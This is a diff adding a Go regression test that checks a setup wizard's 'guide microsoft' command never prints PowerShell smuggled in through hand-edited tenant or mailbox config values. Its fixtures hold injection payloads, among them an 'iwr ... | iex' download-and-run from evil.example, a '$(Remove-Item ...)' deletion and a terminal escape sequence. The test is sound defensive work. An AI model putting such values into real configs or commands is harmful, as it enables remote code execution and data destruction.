@@ -221,3 +221,44 @@ func startSMTPWith(t *testing.T, password string) (*wizard.DemoServer, error) {
 	}
 	return srv, err
 }
+
+// Point 5: values a hand-edited config gives `guide microsoft` never reach
+// its PowerShell as code: an invalid tenant or mailbox is not filled in
+// (placeholders, and a note naming the field), and validation refuses a
+// mailbox PowerShell would read as code.
+func TestGuideNeverPrintsInjectedPowerShell(t *testing.T) {
+	t.Parallel()
+	b, _ := os.ReadFile(testdata("answers", "microsoft.yaml"))
+	for _, tc := range []struct{ from, to, field string }{
+		{"tenant_id: contoso.onmicrosoft.com", "tenant_id: 'contoso.com; iwr https://evil.example/x | iex; # x'", "smtp.oauth.tenant_id"},
+		{"username: alerts@contoso.com", "username: \"alerts\u2019+$(Remove-Item C:/x)+\u2019@contoso.com\"", "smtp.username"},
+		{"username: alerts@contoso.com", "username: \"alerts$x|y@contoso.com\"", "smtp.username"},
+		{"tenant_id: contoso.onmicrosoft.com", "tenant_id: \"contoso\\e]0;x\\a.com\"", "smtp.oauth.tenant_id"},
+	} {
+		dir := t.TempDir()
+		answers := filepath.Join(dir, "a.yaml")
+		os.WriteFile(answers, []byte(strings.Replace(string(b), tc.from, tc.to, 1)), 0o600)
+		// apply refuses it (the mailbox by the new rule, the tenant as before).
+		env := []string{"SMTP_OAUTH_CLIENT_SECRET=Canary-Client-Secret-5"}
+		r := runBin(t, dir, env, "", "apply", "--answers", answers, "--skip-check", "--config", filepath.Join(dir, "site-config.yaml"))
+		if r.code == 0 || !strings.Contains(r.stdout+r.stderr, tc.field) {
+			t.Errorf("%s: apply: exit %d\n%s%s", tc.to, r.code, r.stdout, r.stderr)
+		}
+		// A hand-edited config holding it: the guide fills nothing in.
+		site, ps := config.ParseAnswers([]byte(strings.Replace(string(b), tc.from, tc.to, 1)), dir)
+		_ = ps
+		s := site.Build(nil, time.Now(), "hand")
+		path := writeSite(t, dir, s)
+		for _, args := range [][]string{{"guide", "microsoft"}, {"guide", "microsoft", "--script"}} {
+			r := runBin(t, dir, nil, "", append(args, "--config", path)...)
+			for _, bad := range []string{"iwr", "Remove-Item", "$x|y", "\x1b"} {
+				if strings.Contains(r.stdout, bad) {
+					t.Errorf("%s: %v printed %q:\n%s", tc.to, args, bad, r.stdout)
+				}
+			}
+			if r.code != 0 || !strings.Contains(r.stderr, tc.field) || !strings.Contains(r.stderr, "placeholders") {
+				t.Errorf("%s: %v: exit %d\n%s", tc.to, args, r.code, r.stderr)
+			}
+		}
+	}
+}
